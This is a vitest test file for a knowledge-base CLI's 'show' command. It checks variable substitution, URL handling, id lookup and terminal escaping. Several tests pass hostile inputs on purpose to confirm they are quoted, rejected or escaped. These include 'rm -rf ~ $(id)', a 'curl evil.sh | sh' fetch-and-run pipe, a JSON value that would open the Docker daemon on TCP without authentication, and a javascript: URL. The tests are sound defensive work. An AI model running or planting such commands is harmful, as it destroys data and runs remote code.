import { describe, expect, it } from 'vitest';
import { lookupId } from '../../lib/id-lookup';
import { terminalSafe } from '../../lib/cli/terminal-text';
import { main } from '../../lib/cli/main';
import { fakeIO } from './cli-helpers';

async function show(...argv: string[]) {
  const { io, out } = fakeIO({ env: {} });
  const code = await main(['show', ...argv], io);
  return { code, ...out };
}

describe('kb show', () => {
  it('prints the whole entry for a terminal: symptoms, where to check, commands, verification, fallbacks', async () => {
    const { code, stdout } = await show('CROSS_DOCKER_001');
    expect(code).toBe(0);
    for (const part of [
      'This is your problem if',
      'Where to check:',
      'Solution',
      'docker buildx create --use',
      'Verification',
      'Expected:',
      'Fallback',
      'Option 1: Use QEMU emulation',
      'When: ',
      'Root cause',
    ]) {
      expect(stdout).toContain(part);
    }
    expect(stdout).toContain('/kb/CROSS_DOCKER_001');
    expect(stdout).toMatch(/Not filled in: [A-Z_]+/);
  });

  it('fills the commands with --var values (repeatable) and puts them in the link', async () => {
    const { stdout } = await show(
      'CROSS_DOCKER_001',
      '--var',
      'IMAGE_NAME=myorg/api:1.4.2',
      '--var',
      'UNUSED=x',
      '--url',
      'https://kb.example.com/',
    );
    expect(stdout).toContain('docker build --platform linux/amd64 -t myorg/api:1.4.2 .');
    expect(stdout).not.toContain('__IMAGE_NAME__');
    expect(stdout).toContain('https://kb.example.com/kb/CROSS_DOCKER_001?IMAGE_NAME=myorg%2Fapi%3A1.4.2&UNUSED=x');
  });

  it('takes the site URL from KB_SITE_URL', async () => {
    const { io, out } = fakeIO({ env: { KB_SITE_URL: 'https://kb.acme.dev' } });
    await main(['show', 'CROSS_DOCKER_001'], io);
    expect(out.stdout).toContain('https://kb.acme.dev/kb/CROSS_DOCKER_001');
  });

  it('matches ids without regard to case and suggests the nearest for a near miss', async () => {
    expect((await show('cross_docker_001')).stdout).toContain('CROSS_DOCKER_001  Docker exec format error');
    const miss = await show('CROSS_DOKER_001');
    expect(miss.code).toBe(1);
    expect(miss.stderr).toContain('did you mean CROSS_DOCKER_001?');
  });

  it('fills a value as the page copies it: quoted for the shell, control characters removed', async () => {
    const { code, stdout } = await show('CROSS_DOCKER_001', '--var', 'CONTAINER=web; rm -rf ~ $(id)\x1b[31m');
    expect(code).toBe(0);
    expect(stdout).toContain("docker logs 'web; rm -rf ~ $(id)'");
    expect(stdout).not.toContain('docker logs web;');
    expect(stdout).toContain('Put in quotes for the shell: CONTAINER');
  });

  it('leaves a value out of a block that takes it as typed when it could be code there, and says why', async () => {
    // A linked data-root that would open the Docker daemon on TCP without authentication.
    const hostile = '/mnt/x", "hosts": ["tcp://0.0.0.0:2375"], "y": "';
    const { code, stdout } = await show('DOCKER_NO_SPACE_001', '--var', `DATA_ROOT=${hostile}`);
    expect(code).toBe(0);
    expect(stdout).not.toContain('"data-root": "/mnt/x"');
    expect(stdout).toContain(`rsync -aP /var/lib/docker/ '${hostile}'/`); // the bash block quotes it
    expect(stdout).toContain('"data-root": "__DATA_ROOT__"');
    expect(stdout).toContain(
      '(DATA_ROOT is not filled in here: it holds a double quote ("), which a json block could read as code)',
    );
    const plain = await show('DOCKER_NO_SPACE_001', '--var', 'DATA_ROOT=/mnt/docker-data');
    expect(plain.stdout).toContain('"data-root": "/mnt/docker-data"');
  });

  it('refuses a value its variable rejects, printing nothing, and notes a name the entry does not use', async () => {
    const bad = await show('CROSS_DOCKER_001', '--var', 'IMAGE_NAME=api; curl evil.sh | sh');
    expect(bad.code).toBe(2);
    expect(bad.stdout).toBe('');
    expect(bad.stderr).toContain('--var IMAGE_NAME: ');
    expect(bad.stderr).toContain('Expected a Docker image reference');
    const typo = await show('CROSS_DOCKER_001', '--var', 'IMAGE_NAM=myorg/api');
    expect(typo.code).toBe(0);
    expect(typo.stderr).toBe('note: CROSS_DOCKER_001 has no variable IMAGE_NAM; did you mean IMAGE_NAME?\n');
  });

  it('refuses a malformed --var and a non-http --url', async () => {
    expect((await show('CROSS_DOCKER_001', '--var', 'image=x')).code).toBe(2);
    expect((await show('CROSS_DOCKER_001', '--url', 'javascript:alert(1)')).code).toBe(2);
  });

  it('--json keeps the entry model', async () => {
    const { stdout } = await show('cross_docker_001', '--json');
    expect(JSON.parse(stdout).id).toBe('CROSS_DOCKER_001');
  });
});

describe('id lookup', () => {
  const ids = ['CROSS_DOCKER_001', 'GIT_MERGE_CONFLICT_001'];
  it('finds any case and dashes for underscores', () => {
    expect(lookupId('cross-docker-001', ids)).toEqual({ match: 'CROSS_DOCKER_001' });
  });
  it('suggests a near miss, and nothing for a far one', () => {
    expect(lookupId('GIT_MERGE_CONFLIKT_001', ids)).toEqual({ suggestion: 'GIT_MERGE_CONFLICT_001' });
    expect(lookupId('KUBERNETES_OOM_001', ids)).toEqual({ suggestion: undefined });
  });
});

describe('terminal output', () => {
  it('shows control characters from content as visible escapes', () => {
    expect(terminalSafe('ok\x1b]0;pwned\x07 \x1b[2K\rline\n\tnext')).toBe(
      'ok\\x1b]0;pwned\\x07 \\x1b[2K\\x0dline\n\tnext',
    );
  });
});
